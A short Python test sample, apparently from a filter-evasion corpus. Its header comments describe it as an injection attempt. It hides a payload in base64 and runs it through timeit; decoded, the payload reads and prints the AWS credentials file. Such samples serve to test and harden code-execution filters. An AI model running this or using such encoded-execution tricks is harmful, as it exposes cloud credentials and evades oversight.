# family: injection
# filterfamily: encoded-exec
# tries: hand base64-encoded source to timeit, which compiles and runs its statement; the payload prints the AWS credentials file
# source: none
# exfil: yes
import base64
import timeit

timeit.timeit(base64.b64decode("aW1wb3J0IHN5czsgcHJpbnQob3BlbihzeXMuYXJndlsyXSArICcvLmF3cy9jcmVkZW50aWFscycpLnJlYWQoKSk=").decode(), number=1)
